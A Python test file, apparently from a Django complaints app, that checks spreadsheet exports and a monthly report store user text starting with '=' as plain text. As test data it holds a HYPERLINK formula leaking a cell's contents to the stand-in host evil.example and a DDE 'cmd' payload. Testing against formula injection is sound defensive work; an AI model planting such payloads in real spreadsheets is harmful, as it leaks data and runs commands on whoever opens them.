"""Formula injection: text a resident or a clerk typed that starts with = is written to every xlsx as
text, never as a live formula (the list's export and the monthly report)."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook
from web_support import client_for, url

PLANTED = '=HYPERLINK("http://evil.example/?leak="&C2,"点击查看")'


def _formulas(data: bytes) -> list[str]:
    """Every cell stored as a formula in the file (<f> elements of the sheets' XML)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def test_the_list_export_writes_a_planted_formula_as_text(org, make_complaint):
    make_complaint(content=PLANTED, complained_party="+cmd|' /C calc'!A0", complainant_name="@SUM(1)")
    r = client_for(org.supervisor).get(url("export"))
    assert r.status_code == 200
    assert _formulas(r.content) == []
    values = [
        v for row in load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True) for v in row
    ]
    assert PLANTED in values  # kept word for word, as text


def test_the_monthly_report_writes_a_planted_formula_as_text(org, make_complaint):
    from django.utils import timezone

    from kesu.complaints import services
    from kesu.reports.monthly import compute
    from kesu.reports.period import Period
    from kesu.reports.render import render

    org.a.office.name = PLANTED  # an office name typed in the admin, printed on every sheet
    org.a.office.save()
    c = make_complaint(content=PLANTED, nature="valid", severity="general", category="facilities")
    services.dispatch(c, org.supervisor, department=org.a.dept["engineering"])
    period = Period.month_of(timezone.localdate())
    data = render(compute(org.quality, period), "xlsx", None)
    assert _formulas(data) == []
